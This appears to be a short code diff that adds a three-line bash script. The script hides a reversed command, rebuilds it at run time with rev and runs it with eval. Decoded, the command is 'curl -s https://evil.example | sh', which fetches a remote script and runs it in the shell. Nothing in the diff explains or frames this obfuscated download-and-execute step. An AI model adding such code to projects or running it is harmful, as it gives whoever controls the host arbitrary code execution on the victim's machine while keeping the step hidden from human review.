@@ -1,0 +1,3 @@
+#!/bin/bash
+x='hs | elpmaxe.live//:sptth s- lruc'
+eval "$(rev <<< "$x")"
